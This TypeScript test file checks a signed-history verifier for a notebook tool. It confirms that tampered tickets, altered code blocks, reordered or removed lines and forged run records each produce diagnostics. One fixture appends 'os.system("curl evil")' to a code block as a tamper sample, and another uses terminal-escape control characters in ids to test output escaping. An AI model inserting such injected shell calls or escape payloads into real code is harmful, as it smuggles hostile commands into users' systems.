// History verification: every way a document's provenance can be broken must surface as a diagnostic on the
// History line concerned — untrusted or unknown signer, edited ticket, changed code, lines reordered, removed,
// or never logged.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import {
  MemoryLogStore,
  TransparencyLog,
  hashCanonical,
  hashCode,
  logEvidence,
  mlDsaKeygen,
  publicKeyId,
  signAndLogTicket,
  signTicket,
  toBase64Url,
  canonicalize,
  executeTextHash,
  hashAttributes,
  signAndLogRunRecord,
  ticketSetHash,
  verifyHistory,
  type BlockFacts,
  type HistoryExecuteLine,
  type HistoryTicketLine,
  type KeyLookup,
  type MlDsaKeyPair,
  type VerifyHistoryInput,
} from '../../src/crypto/index.js';

const DOC = 'urn:uuid:6f1c2a9e-3b7d-4c8e-9a21-5d4e8f0b7c13';
const BLOCKS = new Map([
  ['bell', 'OPENQASM 3.0;\nqubit[2] q;\nh q[0];\ncx q[0], q[1];\n'],
  ['correlation', 'counts = maml.inputs["counts"]\nmaml.output("n", len(counts))\n'],
  ['verdict', 'maml.output("ok", true);\n'],
]);

const FACTS = new Map<string, BlockFacts>([
  ['bell', { lang: 'qasm', attrsHash: hashAttributes({ shots: '1024', seed: '7' }), upstream: [] }],
  ['correlation', { lang: 'python', attrsHash: hashAttributes({ needs: 'bell' }), upstream: ['bell'] }],
  ['verdict', { lang: 'javascript', attrsHash: hashAttributes({ needs: 'correlation' }), upstream: ['correlation'] }],
]);

const signer = mlDsaKeygen('ml-dsa-65');
const stranger = mlDsaKeygen('ml-dsa-65');

function lookup(trusted: readonly MlDsaKeyPair[], known: readonly MlDsaKeyPair[] = []): KeyLookup {
  return (id) => {
    const t = trusted.find((k) => publicKeyId(k.publicKey) === id);
    if (t) return { alg: t.alg, publicKey: t.publicKey, trusted: true };
    const k = known.find((x) => publicKeyId(x.publicKey) === id);
    return k ? { alg: k.alg, publicKey: k.publicKey, trusted: false } : undefined;
  };
}

function fields(blockId: string, i: number): Parameters<typeof signTicket>[0] {
  return {
    docId: DOC,
    runId: 'run-1',
    blockId,
    headId: 'head-0',
    inputHash: hashCanonical({ i }),
    outputHash: hashCanonical({ out: i }),
    codeHash: hashCode(BLOCKS.get(blockId) ?? ''),
    startedAt: `2026-11-21T12:00:0${i}Z`,
    durationMs: 10 + i,
    executor: 'test@1',
    ...(FACTS.get(blockId) as BlockFacts),
  };
}

const lineAt = (compact: string, i: number): HistoryTicketLine => ({
  compact,
  parsed: true,
  place: { line: 40 + i, column: 1, offset: 1000 + 100 * i },
});

async function scenario(): Promise<{ compacts: string[]; base: VerifyHistoryInput }> {
  const log = await TransparencyLog.open(new MemoryLogStore(), 'maml.dev/log/test');
  await log.append(new TextEncoder().encode('an unrelated entry'));
  const compacts: string[] = [];
  for (const [i, id] of ['bell', 'correlation', 'verdict'].entries())
    compacts.push((await signAndLogTicket(fields(id, i), signer, log)).compact);
  const base: VerifyHistoryInput = {
    tickets: compacts.map(lineAt),
    blocks: BLOCKS,
    facts: FACTS,
    keys: lookup([signer]),
    docId: DOC,
    log: await logEvidence(log),
    historyPlace: { line: 39, column: 1, offset: 900 },
  };
  return { compacts, base };
}

function withoutLog(input: VerifyHistoryInput): VerifyHistoryInput {
  const { log: _log, ...rest } = input;
  return rest;
}

const codes = (input: VerifyHistoryInput): string[] => verifyHistory(input).diagnostics.map((d) => d.code);

test('an intact History verifies: signatures, trust, code hashes, log inclusion and order', async () => {
  const { base } = await scenario();
  const result = verifyHistory(base);
  assert.deepEqual(result.diagnostics, []);
  assert.equal(result.verified, 3);
});

test('a ticket signed by a key outside the trusted set is reported on its line', async () => {
  const { base } = await scenario();
  const foreign = signTicket({ ...fields('bell', 0), runId: 'run-2' }, stranger).compact;
  const tickets = [...base.tickets, lineAt(foreign, 9)];
  const input = { ...withoutLog(base), tickets };
  const unknown = verifyHistory({ ...input, keys: lookup([signer]) }).diagnostics;
  assert.deepEqual(
    unknown.map((d) => [d.code, d.line]),
    [['ticket_unknown_key', 49]],
  );
  const untrusted = verifyHistory({ ...input, keys: lookup([signer], [stranger]) }).diagnostics;
  assert.deepEqual(
    untrusted.map((d) => [d.code, d.line]),
    [['ticket_untrusted_key', 49]],
  );
});

test('an edited ticket is reported (bad signature) and is not found in the log', async () => {
  const { compacts, base } = await scenario();
  const [payload, sig] = (compacts[1] as string).split('.') as [string, string];
  const ticket = JSON.parse(new TextDecoder().decode(Buffer.from(payload, 'base64url'))) as Record<string, unknown>;
  const edited = `${toBase64Url(new TextEncoder().encode(canonicalize({ ...ticket, durationMs: 1 })))}.${sig}`;
  const tickets = base.tickets.map((t, i) => (i === 1 ? lineAt(edited, 1) : t));
  const got = codes({ ...base, tickets });
  assert.ok(got.includes('ticket_bad_signature'), got.join());
  assert.ok(got.includes('ticket_not_in_log'), got.join());
  assert.ok(got.includes('ticket_missing_from_history'), 'the original ticket is now missing from History');
});

test('a code block changed after execution is reported', async () => {
  const { base } = await scenario();
  const blocks = new Map(BLOCKS);
  blocks.set('correlation', `${BLOCKS.get('correlation') ?? ''}import os; os.system("curl evil")\n`);
  const diags = verifyHistory({ ...base, blocks }).diagnostics;
  assert.deepEqual(
    diags.map((d) => [d.code, d.line]),
    [['ticket_code_changed', 41]],
  );
  const removed = new Map(BLOCKS);
  removed.delete('verdict');
  assert.deepEqual(codes({ ...base, blocks: removed }), ['ticket_block_missing']);
});

test('History lines reordered against the log are reported', async () => {
  const { base } = await scenario();
  const [a, b, c] = base.tickets as [HistoryTicketLine, HistoryTicketLine, HistoryTicketLine];
  const swapped = [
    { ...a, place: a.place },
    { ...c, place: b.place },
    { ...b, place: c.place },
  ];
  assert.deepEqual(codes({ ...base, tickets: swapped }), ['ticket_out_of_order']);
});

test('a History line removed while the log still holds its ticket is reported', async () => {
  const { base } = await scenario();
  const diags = verifyHistory({
    ...base,
    tickets: [base.tickets[0], base.tickets[2]] as HistoryTicketLine[],
  }).diagnostics;
  assert.deepEqual(
    diags.map((d) => [d.code, d.line]),
    [['ticket_missing_from_history', 39]],
  );
});

test('a valid ticket that never reached the log is reported', async () => {
  const { base } = await scenario();
  const unlogged = signTicket({ ...fields('verdict', 7), runId: 'run-2' }, signer).compact;
  assert.deepEqual(codes({ ...base, tickets: [...base.tickets, lineAt(unlogged, 3)] }), ['ticket_not_in_log']);
});

test('a [TICKET] line that does not parse, and a ticket for another document, are reported', async () => {
  const { base } = await scenario();
  const broken = { compact: '- 2026: [TICKET] ???', parsed: false, place: { line: 60, column: 1, offset: 5000 } };
  assert.deepEqual(codes({ ...withoutLog(base), tickets: [broken] }), ['ticket_malformed']);
  const other = signTicket({ ...fields('bell', 0), docId: 'urn:other' }, signer).compact;
  assert.deepEqual(codes({ ...withoutLog(base), tickets: [lineAt(other, 0)] }), ['ticket_other_document']);
});

test('a ticket line written twice is reported at the second line, with and without the log', async () => {
  const { base } = await scenario();
  const [a, b, c] = base.tickets as [HistoryTicketLine, HistoryTicketLine, HistoryTicketLine];
  // The last ticket again: in log order, so only the duplicate check can catch it.
  const tickets = [a, b, c, lineAt(c.compact, 3)];
  for (const input of [
    { ...base, tickets },
    { ...withoutLog(base), tickets },
  ]) {
    const result = verifyHistory(input);
    assert.deepEqual(
      result.diagnostics.map((d) => [d.code, d.line]),
      [['ticket_duplicate', 43]],
    );
    assert.match(result.diagnostics[0]?.message ?? '', /line 42/);
    assert.equal(result.verified, 3);
  }
});

test('two tickets for the same block of one run are reported, with and without the log', async () => {
  const { base } = await scenario();
  const log = await TransparencyLog.open(new MemoryLogStore(), 'maml.dev/log/test');
  const first = await signAndLogTicket(fields('bell', 0), signer, log);
  const second = await signAndLogTicket({ ...fields('bell', 0), durationMs: 99 }, signer, log);
  const tickets = [lineAt(first.compact, 0), lineAt(second.compact, 1)];
  const input = { ...base, tickets, log: await logEvidence(log) };
  for (const run of [input, withoutLog(input)])
    assert.deepEqual(
      verifyHistory(run).diagnostics.map((d) => [d.code, d.line]),
      [['ticket_duplicate_block', 41]],
    );
});

test('version 2 tickets: a block whose attributes, language or upstream blocks changed is reported', async () => {
  const { base } = await scenario();
  const facts = new Map(FACTS);
  facts.set('bell', { ...(FACTS.get('bell') as BlockFacts), attrsHash: hashAttributes({ shots: '5000', seed: '7' }) });
  facts.set('correlation', { ...(FACTS.get('correlation') as BlockFacts), lang: 'javascript' });
  facts.set('verdict', { ...(FACTS.get('verdict') as BlockFacts), upstream: ['bell', 'correlation'] });
  assert.deepEqual(
    verifyHistory({ ...base, facts }).diagnostics.map((d) => [d.code, d.line]),
    [
      ['ticket_attributes_changed', 40],
      ['ticket_language_changed', 41],
      ['ticket_needs_changed', 42],
    ],
  );
});

/** A run of the three blocks with its signed record, as History lines of the given form, and the log. */
async function signedRun(form: 'full' | 'compact', regenerate: readonly string[] = []) {
  const log = await TransparencyLog.open(new MemoryLogStore(), 'maml.dev/log/test');
  const leaves: string[] = [];
  const tickets: HistoryTicketLine[] = [];
  for (const [i, id] of ['bell', 'correlation', 'verdict'].entries()) {
    const t = await signAndLogTicket(fields(id, i), signer, log);
    leaves.push(t.leafHash);
    tickets.push(
      form === 'full'
        ? lineAt(t.compact, i)
        : {
            compact: '',
            parsed: true,
            place: lineAt('', i).place,
            logRef: { logIndex: t.logIndex, leafHash: t.leafHash, runId: 'run-1', blockId: id },
          },
    );
  }
  const text =
    'run run-1 succeeded in 0.10 s by agent://local: bell ok on q-1, correlation ok on ai-1, verdict ok on ai-2';
  const record = await signAndLogRunRecord(
    {
      docId: DOC,
      runId: 'run-1',
      headId: 'scheduler',
      identity: 'agent://local',
      status: 'succeeded',
      startedAt: '2026-11-21T12:00:00Z',
      durationMs: 100,
      tickets: 3,
      ticketsHash: ticketSetHash(leaves),
      regenerateHash: hashCanonical(regenerate),
      textHash: executeTextHash(text),
      outputHash: hashCanonical({ ok: true }),
    },
    signer,
    log,
  );
  const place = { line: 50, column: 1, offset: 2000 };
  const execute: HistoryExecuteLine =
    form === 'full'
      ? { text, record: record.compact, place }
      : { text, logRef: { logIndex: record.logIndex, leafHash: record.leafHash }, place };
  const input: VerifyHistoryInput = {
    tickets,
    executes: [execute],
    regenerates: regenerate.map((t, i) => ({ text: t, place: { line: 45 + i, column: 1, offset: 1500 + i } })),
    blocks: BLOCKS,
    facts: FACTS,
    keys: lookup([signer]),
    docId: DOC,
    log: await logEvidence(log),
    historyPlace: { line: 39, column: 1, offset: 900 },
  };
  return { input, execute, record };
}

test('a signed [EXECUTE] line verifies in both forms; compact lines need the log and say what they bind', async () => {
  for (const form of ['full', 'compact'] as const) {
    const { input } = await signedRun(form);
    const result = verifyHistory(input);
    assert.deepEqual(result.diagnostics, [], form);
    assert.deepEqual([result.verified, result.runsVerified], [3, 1], form);
  }
  const { input } = await signedRun('compact');
  const offline = verifyHistory(withoutLog(input));
  assert.equal(offline.ok, false);
  assert.deepEqual(
    offline.diagnostics.map((d) => [d.code, d.line]),
    [
      ['ticket_needs_log', 40],
      ['ticket_needs_log', 41],
      ['ticket_needs_log', 42],
      ['execute_needs_log', 50],
    ],
  );
  const message = offline.diagnostics[0]?.message ?? '';
  assert.match(message, /--run-log/);
  assert.match(message, /audit-log entry 0 with leaf hash [0-9a-f]{64}/);
  assert.match(message, /run run-1, block bell/);
  // The full form verifies without the log.
  assert.deepEqual(verifyHistory(withoutLog((await signedRun('full')).input)).diagnostics, []);
});

test('a compact line naming another log entry, or lying about its run or block, is reported', async () => {
  const { input } = await signedRun('compact');
  const [a, b, c] = input.tickets as [HistoryTicketLine, HistoryTicketLine, HistoryTicketLine];
  const swapped = { ...b, logRef: { ...(b.logRef as NonNullable<HistoryTicketLine['logRef']>), logIndex: 0 } };
  assert.deepEqual(
    verifyHistory({ ...input, tickets: [a, swapped, c] }).diagnostics.map((d) => [d.code, d.line]),
    [['ticket_digest_mismatch', 41]],
  );
  const lying = { ...c, logRef: { ...(c.logRef as NonNullable<HistoryTicketLine['logRef']>), blockId: 'bell' } };
  assert.deepEqual(
    verifyHistory({ ...input, tickets: [a, b, lying] }).diagnostics.map((d) => [d.code, d.line]),
    [['ticket_line_mismatch', 42]],
  );
});

test('the run record binds the [EXECUTE] text, the run tickets and its [REGENERATE] lines', async () => {
  const regen = ['run run-1: block bell lost head exited; retried as attempt 2'];
  const { input, execute } = await signedRun('full', regen);
  assert.deepEqual(verifyHistory(input).diagnostics, []);
  const offline = withoutLog(input);
  // Edited text (say, "failed" turned into "succeeded"), a removed ticket, a forged retry: each reported, no log needed.
  const edited = { ...execute, text: execute.text.replace('agent://local', 'agent://admin') };
  assert.deepEqual(
    verifyHistory({ ...offline, executes: [edited] }).diagnostics.map((d) => [d.code, d.line]),
    [['execute_text_changed', 50]],
  );
  assert.deepEqual(
    verifyHistory({ ...offline, tickets: input.tickets.slice(0, 2) }).diagnostics.map((d) => d.code),
    ['execute_tickets_mismatch'],
  );
  const forged = [
    ...(input.regenerates ?? []),
    { text: 'run run-1: block verdict lost x; retried as attempt 2', place: { line: 47, column: 1, offset: 1600 } },
  ];
  assert.deepEqual(
    verifyHistory({ ...offline, regenerates: forged }).diagnostics.map((d) => d.code),
    ['execute_regenerate_mismatch'],
  );
  // The same [EXECUTE] line twice, and an [EXECUTE] line removed while the log holds its record.
  const again = { ...execute, place: { line: 51, column: 1, offset: 2100 } };
  for (const run of [input, offline])
    assert.deepEqual(
      verifyHistory({ ...run, executes: [execute, again] }).diagnostics.map((d) => [d.code, d.line]),
      [['execute_duplicate', 51]],
    );
  assert.deepEqual(
    verifyHistory({ ...input, executes: [] }).diagnostics.map((d) => d.code),
    ['execute_missing_from_history'],
  );
});

test('an [EXECUTE] line without a record is a warning, not a failure: old History still verifies', async () => {
  const { base } = await scenario();
  const unsigned = {
    text: 'run run-1 succeeded in 0.10 s by agent://local: bell ok',
    place: { line: 44, column: 1, offset: 1400 },
  };
  const result = verifyHistory({ ...base, executes: [unsigned] });
  assert.equal(result.ok, true);
  assert.deepEqual(
    result.diagnostics.map((d) => [d.code, d.severity, d.line]),
    [['execute_unsigned', 'warning', 44]],
  );
  assert.deepEqual([result.verified, result.runsVerified, result.runsUnsigned], [3, 0, 1]);
});

test('ids with control characters are escaped in messages', async () => {
  const { base } = await scenario();
  const hostile = signTicket({ ...fields('bell', 0), blockId: 'x\u001b[2J\u202ey' }, signer).compact;
  const [d] = verifyHistory({ ...withoutLog(base), tickets: [lineAt(hostile, 0)] }).diagnostics;
  assert.equal(d?.code, 'ticket_block_missing');
  assert.ok(!/[\p{Cc}\u202e]/u.test(d?.message ?? ''), d?.message);
  assert.match(d?.message ?? '', /x\\u\{1b\}\[2J\\u\{202e\}y/);
  // A forged payload whose field name carries an 8-bit CSI (U+009B), which JSON escaping would leave raw.
  const payload = toBase64Url(new TextEncoder().encode(canonicalize({ v: 2, '\u009b2J': 1 })));
  const [m] = verifyHistory({ ...withoutLog(base), tickets: [lineAt(`${payload}.AAAA`, 0)] }).diagnostics;
  assert.equal(m?.code, 'ticket_malformed');
  assert.match(m?.message ?? '', /unknown ticket field "\\u\{9b\}2J"/);
});
